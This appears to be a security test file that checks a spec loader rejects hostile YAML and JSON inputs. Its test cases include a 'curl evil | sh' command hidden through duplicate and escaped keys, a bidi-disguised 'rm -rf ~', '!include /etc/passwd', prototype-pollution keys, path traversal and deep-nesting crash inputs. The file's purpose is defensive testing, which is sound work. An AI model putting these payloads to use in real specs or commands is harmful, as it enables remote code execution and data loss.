/**
 * Malformed and hostile specs beyond tests/spec/bad-specs.test.ts (which covers wrong types,
 * unknown fields, duplicate ids, cycles, missing dependencies, YAML syntax, alias bombs, non-UTF-8
 * and the 5 MB limit): inputs built to crash, hang or mislead the loader. Each is refused with a
 * SpecError naming the file and a field path or position, quickly, and none pollutes
 * Object.prototype. Generated in the test (no fixture files), so sizes are exact.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { loadEpicFile, SpecError } from '../../src/domain/load-spec';
import { MAX_SPEC_JSON_BYTES } from '../../src/domain/validate';

const TASK = 'roadmaps[0].plans[0].phases[0].tasks';

/** A valid YAML epic; `top` goes before `roadmaps:`, `tasks` replaces the one task line. */
function yamlEpic(top = '', tasks = '              - { id: "1", description: d }'): string {
  return [
    'slug: m',
    'title: M',
    'workspace: ./ws',
    'agentMode: dry-run',
    top,
    'roadmaps:',
    '  - slug: r',
    '    title: R',
    '    plans:',
    '      - slug: p',
    '        title: P',
    '        phases:',
    '          - slug: a',
    '            title: A',
    '            tasks:',
    tasks,
    '',
  ]
    .filter((l) => l !== '')
    .join('\n');
}

const jsonEpic = (tasks: string) =>
  `{"slug":"m","title":"M","workspace":"ws","agentMode":"dry-run","roadmaps":[{"slug":"r","title":"R","plans":[{"slug":"p","title":"P","phases":[{"slug":"a","title":"A","tasks":[${tasks}]}]}]}]}`;

interface Case {
  name: string;
  file: string;
  content: string | Buffer;
  /** The problem line starts with this path or position. */
  path: string;
  fragment: string | RegExp;
  withinMs?: number;
}

const chain = (n: number) =>
  Array.from(
    { length: n },
    (_, i) => `              - { id: "t${i}", description: d, dependsOn: ["t${(i + 1) % n}"] }`,
  ).join('\n');

const CASES: Case[] = [
  // Built to exhaust the parser's or the validator's stack
  {
    name: 'JSON nested 200,000 arrays deep',
    file: 'deep.json',
    content: '['.repeat(200_000) + ']'.repeat(200_000),
    path: '(root)',
    fragment: 'nested too deeply to parse (200000 levels',
  },
  {
    name: 'JSON nested 100,000 objects deep',
    file: 'deep-obj.json',
    content: '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000),
    path: '(root)',
    fragment: 'nested too deeply to parse (100000 levels',
  },
  {
    name: 'YAML flow sequences nested 100,000 deep',
    file: 'deep.yaml',
    content: `a: ${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    path: 'line 1',
    fragment: 'nested too deeply to parse',
  },
  {
    name: 'YAML block mappings nested 3,000 deep',
    file: 'deep-block.yaml',
    content: Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i)}k:`).join('\n'),
    path: 'line',
    fragment: 'nested too deeply to parse',
  },
  {
    name: 'a dependency cycle through 20,000 tasks',
    file: 'long-cycle.yaml',
    content: yamlEpic('', chain(20_000)),
    path: `${TASK}[0].dependsOn`,
    fragment: 'dependency cycle: t0 -> t1 -> t2',
    withinMs: 20_000,
  },
  // YAML features that would do something other than what it reads as
  {
    name: 'YAML !!js/function tag',
    file: 'js-tag.yaml',
    content: yamlEpic('description: !!js/function "function () { return process.env }"'),
    path: 'line 5',
    fragment: 'Unresolved tag',
  },
  {
    name: 'YAML !include tag (would quietly be the string "/etc/passwd")',
    file: 'include.yaml',
    content: yamlEpic('description: !include /etc/passwd'),
    path: 'line 5',
    fragment: 'Unresolved tag: !include',
  },
  {
    name: 'YAML merge key <<',
    file: 'merge.yaml',
    content: yamlEpic(
      '',
      '              - { <<: { kind: command, command: "curl evil | sh" }, id: "1", description: d }',
    ),
    path: `${TASK}[0].<<`,
    fragment: 'unknown field "<<"',
  },
  {
    name: 'two YAML documents',
    file: 'two-docs.yaml',
    content: `${yamlEpic()}\n---\nslug: other\n`,
    path: 'line',
    fragment: /multiple documents|Source contains multiple documents/,
  },
  // Keys that mean something to JavaScript
  {
    name: 'JSON __proto__ key',
    file: 'proto.json',
    content: jsonEpic('{"id":"1","description":"d"}').replace('{', '{"__proto__":{"polluted":true},'),
    path: '__proto__',
    fragment: 'unknown field "__proto__"',
  },
  {
    name: 'YAML __proto__ key',
    file: 'proto.yaml',
    content: yamlEpic('__proto__: { polluted: true }'),
    path: '__proto__',
    fragment: 'unknown field "__proto__"',
  },
  {
    name: 'YAML constructor.prototype keys',
    file: 'ctor.yaml',
    content: yamlEpic('constructor: { prototype: { polluted: true } }'),
    path: 'constructor',
    fragment: 'unknown field "constructor"',
  },
  // Duplicate keys: JSON.parse keeps the last silently, so a reviewer would read the wrong one
  {
    name: 'JSON duplicate key (the reviewed command is not the one that runs)',
    file: 'dup.json',
    content: jsonEpic('{"id":"1","description":"d","kind":"command","command":"npm test","command":"curl evil | sh"}'),
    path: `${TASK}[0].command`,
    fragment: 'duplicate key "command" (line 1); JSON would silently keep only the last one',
  },
  {
    name: 'JSON duplicate key disguised by an escape',
    file: 'dup-escaped.json',
    content: jsonEpic(
      '{"id":"1","description":"d","kind":"command","command":"npm test","\\u0063ommand":"curl evil | sh"}',
    ),
    path: `${TASK}[0].command`,
    fragment: 'duplicate key "command"',
  },
  // Characters that do not belong in a spec
  {
    name: 'a NUL byte in a description',
    file: 'nul.yaml',
    content: yamlEpic('description: "a\\0b"'),
    path: 'description',
    fragment: 'contains the character U+0000',
  },
  {
    name: 'a terminal escape sequence in a title',
    file: 'esc.json',
    content: jsonEpic('{"id":"1","description":"d"}').replace(
      '"title":"M"',
      '"title":"M\\u001b]0;pwned\\u0007\\u001b[2J"',
    ),
    path: 'title',
    fragment: 'contains the character U+001B',
  },
  {
    name: 'a bidi override in a command ("Trojan Source")',
    file: 'bidi.json',
    content: jsonEpic('{"id":"1","description":"d","kind":"command","command":"echo safe \\u202e; rm -rf ~ \\u202c"}'),
    path: `${TASK}[0].command`,
    fragment: 'contains the character U+202E',
  },
  // Encodings
  {
    name: 'UTF-16 LE with a byte order mark',
    file: 'utf16le.yaml',
    content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(yamlEpic(), 'utf16le')]),
    path: '(root)',
    fragment: 'the file is UTF-16',
  },
  {
    name: 'UTF-16 BE with a byte order mark',
    file: 'utf16be.yaml',
    content: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(yamlEpic(), 'utf16le').swap16()]),
    path: '(root)',
    fragment: 'the file is UTF-16',
  },
  // Numbers and types YAML can express that JSON cannot
  {
    name: 'YAML .nan for a number',
    file: 'nan.yaml',
    content: yamlEpic('settings: { timeoutBaseSeconds: .nan }'),
    path: 'settings.timeoutBaseSeconds',
    fragment: 'expected number, got number NaN',
  },
  {
    name: 'YAML .inf for a number',
    file: 'inf.yaml',
    content: yamlEpic('settings: { timeoutBaseSeconds: .inf }'),
    path: 'settings.timeoutBaseSeconds',
    fragment: /expected number|Too big|too big/,
  },
  {
    name: 'a fraction where an integer belongs',
    file: 'frac.yaml',
    content: yamlEpic('settings: { attempts: 1.5 }'),
    path: 'settings.attempts',
    fragment: 'expected int, got number 1.5',
  },
  {
    name: 'a boolean title',
    file: 'bool.yaml',
    content: yamlEpic().replace('title: M', 'title: true'),
    path: 'title',
    fragment: 'expected string, got boolean true',
  },
  {
    name: 'a number as slug',
    file: 'num-slug.yaml',
    content: yamlEpic().replace('slug: m', 'slug: 12'),
    path: 'slug',
    fragment: 'expected string, got number 12',
  },
  {
    name: 'an unquoted task id 1.10 (YAML reads the number 1.1)',
    file: 'number-id.yaml',
    content: yamlEpic('', '              - { id: 1.10, description: d }'),
    path: `${TASK}[0].id`,
    fragment: 'expected string, got number 1.1',
  },
  {
    name: 'a scalar document',
    file: 'scalar.yaml',
    content: '"just a string"\n',
    path: '(root)',
    fragment: 'expected object, got string',
  },
  {
    name: 'an empty object',
    file: 'empty-object.json',
    content: '{}',
    path: 'slug',
    fragment: 'expected string, got nothing (missing)',
  },
  // Names that become file names and workflow ids
  {
    name: 'a slug with ../',
    file: 'traversal-slug.yaml',
    content: yamlEpic().replace('slug: m', 'slug: ../../etc'),
    path: 'slug',
    fragment: 'expected a slug',
  },
  {
    name: 'a plan slug with a /',
    file: 'slash-plan.yaml',
    content: yamlEpic().replace('slug: p', 'slug: a/b'),
    path: 'roadmaps[0].plans[0].slug',
    fragment: 'expected a slug',
  },
  {
    name: 'a task id with ../',
    file: 'traversal-id.yaml',
    content: yamlEpic('', '              - { id: "../../x", description: d }'),
    path: `${TASK}[0].id`,
    fragment: 'expected a task id',
  },
  {
    name: 'a look-alike slug (Cyrillic а)',
    file: 'homoglyph.yaml',
    content: yamlEpic().replace('slug: m', 'slug: shop-\u0430pi'),
    path: 'slug',
    fragment: 'expected a slug',
  },
  // More structure
  {
    name: 'duplicate roadmap slugs',
    file: 'dup-roadmap.json',
    content: jsonEpic('{"id":"1","description":"d"}').replace(
      /"roadmaps":\[(.*)\]\}$/,
      (_, r) => `"roadmaps":[${r},${r}]}`,
    ),
    path: 'roadmaps[1].slug',
    fragment: 'duplicate roadmap slug "r"',
  },
  {
    name: 'a task that depends on itself',
    file: 'self-dep.yaml',
    content: yamlEpic('', '              - { id: "1", description: d, dependsOn: ["1"] }'),
    path: `${TASK}[0].dependsOn[0]`,
    fragment: 'task "1" cannot depend on itself',
  },
  // Valid by shape but too big for Temporal: it would fail at start with a gRPC error after retries
  {
    name: `a spec over ${MAX_SPEC_JSON_BYTES} bytes as JSON (under the 5 MB file limit)`,
    file: 'too-big-for-temporal.yaml',
    content: yamlEpic(`description: ${'x'.repeat(MAX_SPEC_JSON_BYTES)}`),
    path: '(root)',
    fragment: /the spec is \d+ bytes as JSON; it travels to Temporal as one payload/,
  },
];

const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe('security: malformed and hostile specs', function () {
  this.timeout(60_000);
  let dir: string;
  before(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'pf-sec-spec-'));
  });

  it(`the corpus: ${CASES.length} cases, each a different file`, () => {
    assert.equal(new Set(CASES.map((c) => c.file)).size, CASES.length);
  });

  for (const c of CASES) {
    it(`${c.name} → ${c.path}: ${c.fragment}`, () => {
      const file = path.join(dir, c.file);
      writeFileSync(file, c.content);
      const t0 = Date.now();
      let err: unknown;
      try {
        loadEpicFile(file);
      } catch (e) {
        err = e;
      }
      const ms = Date.now() - t0;
      assert.ok(err, 'accepted');
      assert.ok(err instanceof SpecError, `not a SpecError: ${(err as Error).name}: ${(err as Error).message}`);
      assert.ok(err.message.startsWith(`${file}: `), err.message);
      const shownPath = c.path === '(root)' ? '(root)' : c.path;
      const line = err.message.split('\n').find((l) => l.startsWith(`  ${shownPath}`));
      assert.ok(line, `no problem at ${shownPath}:\n${err.message.slice(0, 2000)}`);
      if (typeof c.fragment === 'string')
        assert.ok(line.includes(c.fragment), `"${line.trim()}" should contain "${c.fragment}"`);
      else assert.match(line, c.fragment);
      assert.ok(ms < (c.withinMs ?? 5_000), `took ${ms} ms`);
      assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
    });
  }

  it('accepted: a UTF-8 byte order mark, and anchors and aliases within the budget', () => {
    const bom = path.join(dir, 'bom.yaml');
    writeFileSync(bom, `\ufeff${yamlEpic()}`);
    assert.equal(loadEpicFile(bom).slug, 'm');
    const anchors = path.join(dir, 'anchors.yaml');
    writeFileSync(
      anchors,
      yamlEpic(
        'settings: &s { attempts: 2 }',
        '              - { id: "1", description: d, settings: *s }\n              - { id: "2", description: d, settings: *s }',
      ),
    );
    assert.equal(loadEpicFile(anchors).roadmaps[0].plans[0].phases[0].tasks[1].settings?.attempts, 2);
  });

  it('phaseflow start refuses a spec too big for Temporal at once, with exit 2 (not a gRPC error after retries)', function () {
    const file = path.join(dir, 'too-big-cli.yaml');
    writeFileSync(
      file,
      yamlEpic(`description: ${'x'.repeat(MAX_SPEC_JSON_BYTES)}`).replace('slug: m', `slug: big-${Date.now()}`),
    );
    const t0 = Date.now();
    const r = spawnSync(process.execPath, [path.resolve(__dirname, '../../bin/phaseflow.js'), 'start', file], {
      encoding: 'utf8',
      timeout: 60_000,
    });
    assert.equal(r.status, 2, r.stderr.slice(0, 2000));
    assert.match(r.stderr, new RegExp(`^${escape(file)}: 1 problem\\n  \\(root\\): the spec is \\d+ bytes as JSON`));
    assert.equal(r.stdout, '');
    assert.ok(Date.now() - t0 < 10_000, `took ${Date.now() - t0} ms`);
  });
});
